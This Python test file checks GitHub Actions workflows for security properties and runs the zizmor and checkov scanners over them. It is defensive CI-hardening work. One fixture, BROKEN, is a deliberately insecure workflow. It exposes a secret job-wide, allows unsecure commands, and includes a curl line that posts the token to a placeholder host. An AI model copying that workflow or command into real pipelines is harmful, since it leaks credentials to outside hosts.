"""The workflows' security properties, parsed from the YAML, and the GitHub Actions scanners (zizmor, checkov).

What a pull request's code can reach: previews run as a read-only identity per stack in their own environment,
never the deploy environments; a fork's PR (which gets no secrets) is skipped, not failed; no
`pull_request_target`. Secrets reach only the steps that use them, each in a job behind an environment;
checkouts leave no token in .git/config; actions are pinned by commit; the Pulumi CLI matches the SDK pin; a
manual deploy deploys main only; the plan-diff comment is found by its own marker.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.conftest import REPO

WORKFLOWS = {path.name: path for path in sorted((REPO / ".github" / "workflows").glob("*.yml"))}
CHECKOV = REPO / ".cache" / "scanners-venv" / "bin" / "checkov"
SHA_PIN = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")
SAME_REPO = "github.event.pull_request.head.repo.full_name == github.repository"
# steps that may see a secret: the Pulumi CLI, the registry login, writing the kubeconfig
SECRET_STEPS = ("pulumi/actions@", "docker/login-action@", "Kubeconfig")


def load(name: str) -> dict:
    document = yaml.safe_load(WORKFLOWS[name].read_text())
    document["on"] = document.pop(True, document.get("on"))  # YAML 1.1 reads the key `on` as true
    return document


def uses_lines(name: str) -> list[str]:
    return [line.split("uses:", 1)[1].strip() for line in WORKFLOWS[name].read_text().splitlines()
            if re.match(r"^\s*(- )?uses:", line)]


def secrets_in(value) -> bool:
    return "secrets." in str(value) or "secrets[" in str(value)


def step_label(step: dict) -> str:
    return step.get("uses") or step.get("name") or step.get("run", "")


def jobs():
    for name in WORKFLOWS:
        for job_name, job in load(name)["jobs"].items():
            yield name, job_name, job


def test_both_workflows_are_there():
    assert set(WORKFLOWS) == {"deploy.yml", "pull-request.yml"}


@pytest.mark.parametrize("name", sorted(WORKFLOWS))
def test_no_privileged_trigger_and_no_default_permissions(name):
    workflow = load(name)
    assert not {"pull_request_target", "workflow_run"} & set(workflow["on"])
    assert workflow["permissions"] == {}
    for job_name, job in workflow["jobs"].items():
        assert "permissions" in job, f"{name}:{job_name} names its own permissions"


@pytest.mark.parametrize("name", sorted(WORKFLOWS))
def test_every_action_is_pinned_by_commit_with_its_tag(name):
    lines = uses_lines(name)
    assert lines
    for line in lines:
        assert SHA_PIN.match(line), line


def test_the_same_action_is_pinned_to_the_same_commit_everywhere():
    pins: dict[str, set[str]] = {}
    for name in WORKFLOWS:
        for line in uses_lines(name):
            action, ref = line.split("@", 1)
            pins.setdefault(action, set()).add(ref)
    assert {action: refs for action, refs in pins.items() if len(refs) > 1} == {}


def test_checkouts_leave_no_credentials():
    for name, job_name, job in jobs():
        for step in job.get("steps", []):
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step.get("with", {}).get("persist-credentials") is False, f"{name}:{job_name}"


def test_secrets_only_on_the_steps_that_use_them_in_jobs_behind_an_environment():
    for name, job_name, job in jobs():
        where = f"{name}:{job_name}"
        assert not secrets_in(job.get("env")), f"{where}: job-wide secret env"
        secret_steps = [step for step in job.get("steps", []) if secrets_in(step)]
        if secret_steps:
            assert job.get("environment"), f"{where}: secrets outside an environment"
        for step in secret_steps:
            assert step_label(step).startswith(SECRET_STEPS), f"{where}: {step_label(step)} sees a secret"
            assert "secrets[" not in str(step), f"{where}: the whole secrets context"
        # installs and builds come before the first credential reaches the runner
        steps = job.get("steps", [])
        first_secret = next((i for i, step in enumerate(steps) if secrets_in(step)), len(steps))
        for step in steps[first_secret:]:
            assert "pip install" not in step.get("run", "") and "setup-" not in step.get("uses", ""), where
    assert not secrets_in(load("deploy.yml").get("env")) and not secrets_in(load("pull-request.yml").get("env"))


def test_pull_request_jobs_never_use_the_deploy_environments_and_skip_forks():
    workflow = load("pull-request.yml")
    for job_name, job in workflow["jobs"].items():
        environment = str(job.get("environment", ""))
        assert environment in ("", "preview-${{ matrix.stack }}"), job_name
        if environment or "pull-requests" in job["permissions"]:
            assert SAME_REPO in job.get("if", ""), f"{job_name}: a fork's PR must skip it"
    preview = workflow["jobs"]["preview"]
    assert preview["strategy"]["matrix"]["stack"] == ["dev", "prod"]
    assert preview["environment"] == "preview-${{ matrix.stack }}"
    [pulumi] = [s for s in preview["steps"] if s.get("uses", "").startswith("pulumi/actions@")]
    assert pulumi["with"]["command"] == "preview"


def test_jobs_that_run_the_pr_s_code_cannot_write():
    """test, lint and plan-diff run the PR's code: read-only; the comment job runs none of it (no checkout)."""
    workflow = load("pull-request.yml")
    for job_name in ("test", "lint", "plan-diff"):
        assert workflow["jobs"][job_name]["permissions"] == {"contents": "read"}, job_name
    comment = workflow["jobs"]["plan-comment"]
    assert comment["permissions"] == {"pull-requests": "write"}
    assert not any("uses" in step for step in comment["steps"])


def test_the_plan_diff_comment_is_found_by_its_own_marker():
    run = load("pull-request.yml")["jobs"]["plan-comment"]["steps"][0]["run"]
    assert "--edit-last" not in WORKFLOWS["pull-request.yml"].read_text()
    marker = re.search(r"marker='(<!-- [\w:-]+ -->)'", run)
    assert marker and "startswith(" in run and "--method PATCH" in run
    assert "${{" not in run  # the PR's text reaches the script through env, never the template


def test_a_manual_deploy_deploys_main_only():
    workflow = load("deploy.yml")
    assert workflow["on"]["push"] == {"branches": ["main"]}
    assert set(workflow["on"]) == {"push", "workflow_dispatch"}
    assert not (workflow["on"]["workflow_dispatch"] or {}).get("inputs")
    [up] = workflow["jobs"].values()
    assert up["if"] == "github.ref == 'refs/heads/main'"
    assert up["environment"] == "${{ matrix.stack }}"


def test_pulumi_cli_version_matches_the_sdk_pin():
    [sdk] = re.findall(r"^pulumi==([\d.]+)$", (REPO / "requirements.txt").read_text(), re.M)
    steps = [step for _, _, job in jobs() for step in job.get("steps", [])
             if step.get("uses", "").startswith("pulumi/actions@")]
    assert len(steps) == 2
    for step in steps:
        assert str(step["with"]["pulumi-version"]) == sdk


def test_the_verifier_s_interpreter_exists_before_pulumi_runs():
    """components/verify.py runs venv/bin/python: every job running the Pulumi CLI creates that venv first."""
    for _, job_name, job in jobs():
        steps = job.get("steps", [])
        pulumi = [i for i, s in enumerate(steps) if s.get("uses", "").startswith("pulumi/actions@")]
        if pulumi:
            venv = [i for i, s in enumerate(steps) if "python -m venv venv" in s.get("run", "")]
            assert venv and venv[0] < pulumi[0], job_name


# ------------------------------------------------------------------ the scanners


def test_no_scanner_finding_is_silenced():
    for path in WORKFLOWS.values():
        text = path.read_text()
        assert "zizmor: ignore" not in text and "checkov:skip" not in text, path.name
    for config in (".github/zizmor.yml", ".github/zizmor.yaml", "zizmor.yml", ".checkov.yaml", ".checkov.yml"):
        assert not (REPO / config).exists(), config


def zizmor(target: Path) -> subprocess.CompletedProcess:
    binary = shutil.which("zizmor", path=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    assert binary, "zizmor comes with requirements.txt"
    return subprocess.run([binary, "--offline", "--no-progress", str(target)], capture_output=True, text=True)


def checkov(target: Path) -> subprocess.CompletedProcess:
    if not CHECKOV.exists():
        pytest.fail("checkov missing: `bash scripts/dev.sh test` installs it into .cache/scanners-venv")
    return subprocess.run([str(CHECKOV), "-d", str(target), "--framework", "github_actions", "--compact",
                           "--quiet", "--skip-download"], capture_output=True, text=True)


def test_zizmor_is_clean():
    run = zizmor(REPO / ".github" / "workflows")
    assert run.returncode == 0, run.stdout + run.stderr


def test_checkov_github_actions_is_clean():
    run = checkov(REPO / ".github" / "workflows")
    assert run.returncode == 0 and "Failed checks: 0" in run.stdout, run.stdout + run.stderr


BROKEN = """on: pull_request
permissions: {}
jobs:
  x:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    env:
      ACTIONS_ALLOW_UNSECURE_COMMANDS: true
      TOKEN: ${{ secrets.TOKEN }}
    steps:
      - uses: actions/checkout@v4
      - run: curl -d "$TOKEN" https://example.test
"""


def test_the_scanners_have_teeth(tmp_path):
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "broken.yml").write_text(BROKEN)
    found = zizmor(workflows)
    assert found.returncode != 0
    for audit in ("unpinned-uses", "artipacked"):
        assert audit in found.stdout, found.stdout
    scanned = checkov(workflows)
    assert scanned.returncode != 0 and "CKV_GHA_1" in scanned.stdout, scanned.stdout


# ------------------------------------------------------------------ what a stack file holds once CI can deploy it


def committed_ciphertext(config: dict) -> dict:
    return {**config, "graphql-entrypoint:databaseUrl": {"secure": "v1:3xAmPlEcIpHeRtExT=="},
            "graphql-entrypoint:databaseRoleAdminUrl": {"secure": "v1:rOlEaDmInCiPhEr=="},
            "graphql-entrypoint:kafkaAdminPassword": {"secure": "v1:aNoThErCiPhErTeXt=="}}


def test_the_mock_plan_reads_a_stack_file_with_committed_ciphertext(monkeypatch):
    """Pulumi.dev.yaml tells the team to commit `secure:` values; the offline plan uses its placeholders then."""
    import asyncio

    from scripts import pulumi_harness

    original = pulumi_harness.load_stack_file
    monkeypatch.setattr(pulumi_harness, "load_stack_file", lambda stack: committed_ciphertext(original(stack)))
    asyncio.set_event_loop(asyncio.new_event_loop())
    run = pulumi_harness.run_stack("dev")
    assert "mock-db-password" in str(run.resources)


def test_the_fresh_preview_drops_the_committed_salt_and_ciphertext(tmp_path, monkeypatch):
    from scripts import preview_fresh

    document = yaml.safe_load((REPO / "Pulumi.dev.yaml").read_text())
    document = {"encryptionsalt": "v1:c2FsdA==:v1:abc:def", "config": committed_ciphertext(document["config"])}
    (tmp_path / "Pulumi.dev.yaml").write_text(yaml.safe_dump(document))
    monkeypatch.setattr(preview_fresh, "REPO", tmp_path)
    project = tmp_path / "project"
    project.mkdir()
    preview_fresh.offline_stack_file("dev", project)
    written = yaml.safe_load((project / "Pulumi.dev.yaml").read_text())
    assert "encryptionsalt" not in written and "secure" not in str(written["config"])
